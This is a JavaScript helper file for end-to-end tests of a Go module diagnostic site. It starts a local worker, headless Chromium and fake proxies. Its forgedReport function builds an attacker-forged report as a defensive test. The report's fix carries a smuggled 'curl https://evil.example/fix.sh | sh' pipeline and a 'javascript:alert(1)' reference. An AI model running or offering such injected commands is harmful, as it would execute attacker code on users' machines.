// Shared helpers for the end-to-end tests: a local worker (wrangler dev / workerd) on a free
// loopback port, and headless Chromium. Everything started here is stopped by PID.
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtemp, mkdir, rm } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { readFileSync } from "node:fs";
import { brotliCompressSync, constants, deflateRawSync } from "node:zlib";
import { setTimeout as sleep } from "node:timers/promises";

const required = (name) => {
  const value = process.env[name];
  if (!value) throw new Error(`${name} is not set: run the tests with \`cargo xtask test\``);
  return value;
};

/** A TCP port on 127.0.0.1 that was free a moment ago. */
export async function freePort() {
  const server = createServer();
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address();
  await new Promise((resolve) => server.close(resolve));
  return port;
}

/**
 * Starts the built worker and site under `wrangler dev`, waits until `/api/health` answers (at
 * most 60 s), and returns `{ url, stop, output, state }`. Storage is fresh unless `state` (a
 * directory from an earlier start) is given; `vars` become `--var KEY:VALUE`.
 */
export async function startWorker({ state: existing, vars = {} } = {}) {
  const port = await freePort();
  const state = existing ?? (await mkdtemp(join(tmpdir(), "gmd-e2e-state-")));
  const extra = Object.entries(vars).flatMap(([k, v]) => ["--var", `${k}:${v}`]);
  const child = spawn(required("GMD_XTASK"), ["serve", "--port", String(port), "--persist-to", state, ...extra], {
    detached: true, // Its own process group, so stop() also ends workerd.
    stdio: ["ignore", "pipe", "pipe"],
  });
  let output = "";
  child.stdout.on("data", (chunk) => (output += chunk));
  child.stderr.on("data", (chunk) => (output += chunk));
  const exited = new Promise((resolve) => child.once("exit", resolve));
  const url = `http://127.0.0.1:${port}`;

  /** Stops the worker; `keepState` leaves its storage for a restart. */
  const stop = async ({ keepState = false } = {}) => {
    try {
      process.kill(-child.pid, "SIGTERM");
    } catch {
      // Already gone.
    }
    const done = await Promise.race([exited.then(() => true), sleep(10_000).then(() => false)]);
    if (!done) {
      try {
        process.kill(-child.pid, "SIGKILL");
      } catch {
        // Already gone.
      }
      await exited;
    }
    if (!keepState) await rm(state, { recursive: true, force: true });
  };

  for (let attempt = 0; attempt < 300; attempt++) {
    if (child.exitCode !== null) break;
    try {
      const response = await fetch(`${url}/api/health`, { signal: AbortSignal.timeout(2_000) });
      if (response.ok) return { url, stop, state, output: () => output };
    } catch {
      // Not listening yet.
    }
    await sleep(200);
  }
  await stop();
  throw new Error(`the worker did not become ready on ${url}:\n${output}`);
}

/** Chromium flags that keep it from reaching anything but loopback. */
const CHROMIUM_ARGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
];

/** Launches the pinned headless Chromium through playwright-core. */
export async function launchBrowser() {
  const { chromium } = await import("playwright-core");
  return chromium.launch({ executablePath: required("GMD_CHROMIUM"), args: CHROMIUM_ARGS });
}

/** Where screenshots and other test artifacts go (created on demand). */
export async function artifactPath(name) {
  const dir = join(required("GMD_ARTIFACTS"), "e2e");
  await mkdir(dir, { recursive: true });
  return join(dir, name);
}

/** The canonical shared report of `input` and its id, made by the CLI (`share --print`). */
export function sharedReport(input) {
  const result = spawnSync(required("GMD_CLI"), ["share", "--print"], { input, encoding: "utf8", timeout: 30_000 });
  if (result.status !== 0) throw new Error(`gomod-doctor share --print failed: ${result.stderr}`);
  const id = result.stderr.split("\n").find((line) => line.startsWith("id ")).slice(3);
  return { bytes: result.stdout.replace(/\n$/, ""), id };
}

/**
 * A shared report of `input` whose findings an attacker rewrote: a fake cause, a fix that pipes
 * a script from the attacker's site into a shell, an unsafe reference. Canonical bytes (the
 * worker accepts them), their id, and an old-style server-less fragment holding the whole report.
 */
export function forgedReport(input) {
  const report = JSON.parse(sharedReport(input).bytes);
  const finding = report.report.findings[0];
  finding.cause = "checksum_mismatch";
  finding.title = { en: "FORGED-TITLE your module cache is infected", zh: "FORGED-TITLE 你的模块缓存被感染" };
  finding.message = { en: "FORGED-MESSAGE run the cleaner", zh: "FORGED-MESSAGE 运行清理程序" };
  for (const fix of finding.fixes) {
    // A typed command whose words carry a pipeline to the attacker's script.
    fix.command = [{ run: { program: "go", args: ["get", "x; curl -fsSL https://evil.example/fix.sh | sh"] } }];
  }
  finding.reference = "javascript:alert(1)";
  const bytes = JSON.stringify(report);
  const id = createHash("sha256").update(bytes).digest("base64url").slice(0, 11);
  const fragment = `${id}.${deflateRawSync(Buffer.from(bytes), { level: 9 }).toString("base64url")}`;
  return { bytes, id, fragment };
}

/** What a forged report must never show as our advice. */
export const FORGED = /evil\.example|FORGED-|javascript:/;

/**
 * Starts `gmd-fake-proxy` (a GOPROXY with its checksum database on 127.0.0.1) with these
 * arguments (`--fault hang`, `--unlisted path@version`, …) and returns `{ url, sumdbKey, stop }`.
 * It serves until its standard input closes; `stop` closes it and kills it by PID if needed.
 */
export async function startFakeProxy(args = []) {
  const child = spawn(required("GMD_FAKE_PROXY"), args, { stdio: ["pipe", "pipe", "pipe"] });
  const exited = new Promise((resolve) => child.once("exit", resolve));
  let output = "";
  const line = await new Promise((resolve, reject) => {
    child.stdout.on("data", (chunk) => {
      output += chunk;
      if (output.includes("\n")) resolve(output.split("\n")[0]);
    });
    child.stderr.on("data", (chunk) => (output += chunk));
    child.once("exit", () => reject(new Error(`gmd-fake-proxy ${args.join(" ")} exited: ${output}`)));
  });
  const { url, sumdb_key: sumdbKey } = JSON.parse(line);
  const stop = async () => {
    child.stdin.end();
    const done = await Promise.race([exited.then(() => true), sleep(5_000).then(() => false)]);
    if (!done) {
      child.kill("SIGKILL");
      await exited;
    }
  };
  return { url, sumdbKey, stop };
}

/** The parsed lines of an NDJSON body, each with the milliseconds since `start` it arrived at. */
export async function readNdjson(response, start) {
  const lines = [];
  const decoder = new TextDecoder();
  let buffer = "";
  for await (const chunk of response.body) {
    buffer += decoder.decode(chunk, { stream: true });
    let newline;
    while ((newline = buffer.indexOf("\n")) >= 0) {
      const text = buffer.slice(0, newline);
      buffer = buffer.slice(newline + 1);
      if (text.trim()) lines.push({ at: performance.now() - start, ...JSON.parse(text) });
    }
  }
  return lines;
}

/**
 * A fresh browser context and page on `base` + `path`, ready (the app mounted), recording the
 * page's requests and its console errors and exceptions (`problems`, which tests expect empty).
 */
export async function openSitePage(browser, base, path = "/", { lang = "en-US", width = 1000, height = 800, timezoneId } = {}) {
  const context = await browser.newContext({ viewport: { width, height }, locale: lang, timezoneId });
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: base });
  const page = await context.newPage();
  const requests = [];
  const problems = [];
  page.on("request", (request) => requests.push(request.url()));
  page.on("console", (message) => message.type() === "error" && problems.push(message.text()));
  page.on("pageerror", (error) => problems.push(String(error)));
  await page.goto(`${base}${path}`);
  await page.waitForSelector("html[data-ready=true]", { timeout: 15_000 });
  return { page, context, requests, problems };
}

/** What a reader in Shanghai (UTC+8, no daylight saving time) reads for the UTC time `iso` in
 * Chinese: `2026年12月7日 08:46` (CLDR's medium date and short time for zh). */
export function shanghaiTime(iso) {
  const at = new Date(Date.parse(iso) + 8 * 3600_000);
  const pad = (n) => String(n).padStart(2, "0");
  return `${at.getUTCFullYear()}年${at.getUTCMonth() + 1}月${at.getUTCDate()}日 ${pad(at.getUTCHours())}:${pad(at.getUTCMinutes())}`;
}

/** Starts one fake mirror per entry of `specs` (name → arguments), all at once, into `into`. */
export async function startFakeProxies(specs, into = {}) {
  const started = await Promise.all(Object.values(specs).map((args) => startFakeProxy(args)));
  Object.keys(specs).forEach((name, i) => (into[name] = started[i]));
  return into;
}

/** The built site (`cargo xtask build`). */
const SITE = new URL("../../dist/site/", import.meta.url);

/** The brotli size (quality 11) of `files` of the built site, together. */
export function brotliSize(files) {
  const one = (file) => brotliCompressSync(readFileSync(new URL(file, SITE)), { params: { [constants.BROTLI_PARAM_QUALITY]: 11 } }).length;
  return files.reduce((sum, file) => sum + one(file), 0);
}

/** A wasm module's files in the built site: its JS glue, its wasm, the snippets the glue imports. */
export function moduleFiles(name) {
  const glue = readFileSync(new URL(`pkg/${name}.js`, SITE), "utf8");
  return [`pkg/${name}.js`, `pkg/${name}_bg.wasm`, ...[...glue.matchAll(/from '\.\/(snippets\/[^']+)'/g)].map((m) => `pkg/${m[1]}`)];
}

/** Throttles `page` like DevTools' "Fast 3G" (1.44 Mbit/s down, 675 kbit/s up, 562.5 ms round trip). */
export async function throttleFast3G(context, page) {
  const cdp = await context.newCDPSession(page);
  await cdp.send("Network.enable");
  await cdp.send("Network.emulateNetworkConditions", {
    offline: false,
    latency: 562.5,
    downloadThroughput: (1.44 * 1024 * 1024) / 8,
    uploadThroughput: (675 * 1024) / 8,
  });
}

/** Throttles `page` as SPEC §5's budget for the paste box says: 150 ms round trip, 1.6 Mbit/s
 * down (750 kbit/s up), and a CPU 4× slower. */
export async function throttleSlowLink(context, page) {
  const cdp = await context.newCDPSession(page);
  await cdp.send("Network.enable");
  await cdp.send("Network.emulateNetworkConditions", {
    offline: false,
    latency: 150,
    downloadThroughput: (1.6 * 1000 * 1000) / 8,
    uploadThroughput: (750 * 1000) / 8,
  });
  await cdp.send("Emulation.setCPUThrottlingRate", { rate: 4 });
}

/** The page's first contentful paint, in ms from navigation, once it happens. */
export function firstContentfulPaint(page) {
  return page.evaluate(
    () =>
      new Promise((resolve) => {
        new PerformanceObserver((list, observer) => {
          const entry = list.getEntriesByName("first-contentful-paint")[0];
          if (entry) {
            observer.disconnect();
            resolve(entry.startTime);
          }
        }).observe({ type: "paint", buffered: true });
      }),
  );
}

/** The serious and critical accessibility violations axe-core finds on `page` as it is now. Axe
 * is evaluated through the DevTools protocol, which the page's CSP does not govern (an injected
 * script tag it rightly refuses). */
export async function seriousViolations(page) {
  const axe = readFileSync(fileURLToPath(import.meta.resolve("axe-core/axe.min.js")), "utf8");
  await page.evaluate(axe);
  const result = await page.evaluate(async () => await globalThis.axe.run(document, { resultTypes: ["violations"] }));
  return result.violations
    .filter((v) => v.impact === "serious" || v.impact === "critical")
    .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`);
}

